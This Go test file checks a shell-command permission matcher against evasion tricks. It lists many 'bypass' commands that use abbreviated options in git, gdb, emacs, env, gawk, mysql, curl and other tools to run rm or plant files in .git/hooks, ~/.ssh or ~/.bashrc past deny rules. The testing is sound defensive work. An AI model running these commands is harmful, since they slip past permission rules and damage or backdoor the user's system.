package policy

import "testing"

// TestCommandPolicy45cAbbreviations (policy45c): long options spelled as
// the program's own parser takes them and f2a7b36f did not read: a
// prefix of one or two letters after "--" (getopt_long takes any
// unambiguous one; f2a7b36f read prefixes of four bytes and more),
// gdb's single-dash abbreviations (getopt_long_only), emacs's completion
// of "--" words, mysql's '_' for '-' and "loose-" prefix, gawk's -W
// name=value, git parse-options' prefixes and clone's short clusters,
// env -S in a cluster, dc -e with its value attached. Each runs rm or
// code the matcher cannot read; on f2a7b36f a deny rule for "rm *"
// allowed each and an allow rule for the program allowed each.
func TestCommandPolicy45cAbbreviations(t *testing.T) {
	tests := []struct {
		program string
		allow   []string // the allow rule's patterns
		bypass  []string // each runs rm or code the matcher cannot read; each allowed on f2a7b36f
		fine    []string // allowed by the allow rule and harmless under "rm *"
		kept    []string // read as bypass is, already held on f2a7b36f
	}{
		{"psql", []string{"psql *"},
			[]string{`psql -c 'select 1' --o '|rm x'`, `psql -c 'select 1' --o='|rm x'`, `psql -c 'select 1' --o ~/.bashrc`},
			[]string{`psql -c 'select 1' --o out.txt`, `psql -c 'select 1' --output=out.txt`},
			nil},
		{"cp, mv, ln, install", []string{"cp *", "mv *", "ln *", "install *"},
			[]string{`cp --t .git/hooks pre-commit`, `mv --t=.git/hooks pre-commit`, `install --t ~/.ssh authorized_keys`},
			[]string{`cp --t build a.go`, `mv --t=dst a b`},
			[]string{`ln -s --t ~ x/.bashrc`}},
		{"env", []string{"env *"},
			[]string{`env --s='rm x'`, `env --sp 'rm x'`, `env -iS 'rm x'`, `env -vS'rm x'`},
			[]string{`env ls -lS`, `env -u HOME ls -S`, `env CI=1 ls -lhS`},
			[]string{`env -i -u HOME -S 'rm x'`}},
		{"emacs", []string{"emacs *", "emacsclient *"},
			[]string{
				`emacs --batch --ev '(shell-command "rm x")'`,
				`emacs --batch --ev='(shell-command "rm x")'`,
				`emacs --batch --exe='(shell-command "rm x")'`,
				`emacs --batch --fu kill-emacs`,
				`emacs --batch --lo /dev/stdin`,
				`emacs --batch --scr=/dev/stdin`,
				`emacs -x /dev/stdin`,
				`emacsclient -ne '(shell-command "rm x")'`,
				`emacsclient --ev '(shell-command "rm x")'`,
				`emacsclient -a rm x`,
				`emacsclient --alt=rm x`,
				`emacsclient -na rm x`,
			},
			[]string{`emacs --batch -l build.el`, `emacs --batch --lo build.el`, `emacsclient -n main.go`, `emacsclient -s work main.go`},
			nil},
		{"gdb", []string{"gdb *"},
			[]string{
				`gdb -batch -ev 'shell rm x' ./a`,
				`gdb -batch --eval-com='shell rm x' ./a`,
				`gdb -batch -eval 'shell rm x' ./a`,
				`gdb -batch -init-e 'shell rm x' ./a`,
				`gdb -batch -early-init-e 'shell rm x' ./a`,
				`gdb -batch -comm /dev/stdin ./a`,
				`gdb -batch --init-c=/dev/stdin ./a`,
			},
			[]string{`gdb -batch -ex bt ./a core`, `gdb -batch -ev bt -e ./a -c core`, `gdb -batch -i mi -ex bt ./a`},
			nil},
		{"mysql", []string{"mysql *"},
			[]string{
				`mysql --loose-pager='rm x' -e 'select 1'`,
				`mysql --plugin_dir=. -e 'select 1'`,
				`mysql --loose-default_auth=x -e 'select 1'`,
				`mysql --loose-tee=.bashrc -e 'select 1'`,
			},
			[]string{`mysql -u root -e 'select 1'`, `mysql --loose-tee=session.log -e 'select 1'`},
			[]string{`mysql --loose-execute='system rm x'`}},
		{"gawk", []string{"gawk *", "awk *"},
			[]string{
				`gawk --sour='BEGIN { system("rm x") }'`,
				`gawk --s='BEGIN { system("rm x") }'`,
				`gawk --fi=/dev/stdin`,
				`awk --inc=/dev/stdin 'BEGIN {}'`,
				`gawk -W fi=/dev/stdin`,
				`gawk -Wfile=/dev/stdin`,
				`gawk -W fi /dev/stdin`,
			},
			[]string{`gawk --so='BEGIN { print 1 }'`, `gawk --fi=prog.awk data`, `awk -W version`, `gawk --ass=x=1 '{ print x }' f`},
			nil},
		{"dc", []string{"dc *"},
			[]string{`dc --exp='!rm x' f`, `dc --e '!rm x' f`, `dc '-e!rm x' f`},
			[]string{`dc f`},
			nil},
		{"git", []string{"git *"},
			[]string{
				`git fetch --upload-p='rm x' origin`,
				`git fetch --upl 'rm x' origin`,
				`git push --rec='rm x' origin`,
				`git rebase --exe 'rm x' main`,
				`git difftool --extc='rm x' HEAD`,
				`git clone -qu 'rm x' https://x/r.git`,
				`git clone -qu'rm x' https://x/r.git`,
				`git clone --con core.pager='rm x' https://x/r.git`,
				`git clone --con=core.fsmonitor='rm x' https://x/r.git`,
				`git clone -qc core.pager='rm x' https://x/r.git`,
				`git clone -qccore.pager='rm x' https://x/r.git`,
			},
			[]string{`git clone -q https://x/r.git`, `git clone --con user.name=x https://x/r.git`, `git clone -qc user.name=x https://x/r.git`,
				`git fetch origin`, `git push --force-with-lease origin main`, `git rebase -i main`},
			nil},
		{"rsync", []string{"rsync *", "ssh *"},
			[]string{`rsync --rsync-p='rm x' a h:b`, `rsync --remote-o='rm x' a h:b`},
			[]string{`rsync -av src/ dst/`, `rsync --rsh=ssh -a src/ h:dst/`},
			nil},
		{"xargs", []string{"xargs *", "grep *"},
			nil,
			[]string{`xargs --d '\n' grep x`, `xargs --a list grep x`}, // held on f2a7b36f: '\n', list read as the command
			[]string{`xargs --d '\n' rm x`, `xargs --p V rm x`, `xargs --a list rm`}},
		{"curl, wget", []string{"curl *", "wget *"},
			[]string{`curl --output-dir .git/hooks -O https://x/pre-commit`, `curl --output-dir=.git/hooks -o pre-commit https://x/p`,
				`wget -P .git/hooks https://x/pre-commit`,
				`wget --directory-prefix=.git/hooks https://x/pre-commit`, `wget --dir .git/hooks https://x/pre-commit`},
			[]string{`curl --output-dir dl -O https://x/a.tgz`, `wget -P dl https://x/a.tgz`, `curl -o a.tgz https://x/a.tgz`},
			[]string{`curl --output-dir ~ -O https://x/.bashrc`, `curl --outp .git/hooks -O https://x/pre-commit`}},
		{"lftp", []string{"lftp *"},
			[]string{`lftp -f s.lftp -dc '!rm x'`},
			[]string{`lftp -f s.lftp`},
			nil},
		{"flock", []string{"flock *"},
			[]string{`flock --t 5 /tmp/l -c 'rm x'`, `flock --w 5 /tmp/l -c 'rm x'`},
			[]string{`flock --t 5 /tmp/l make`},
			nil},
	}
	for _, tc := range tests {
		t.Run(tc.program, func(t *testing.T) {
			held := append(append([]string(nil), tc.bypass...), tc.kept...)
			checkCommands(t, tc.allow, held, tc.fine, held, tc.fine)
		})
	}
}
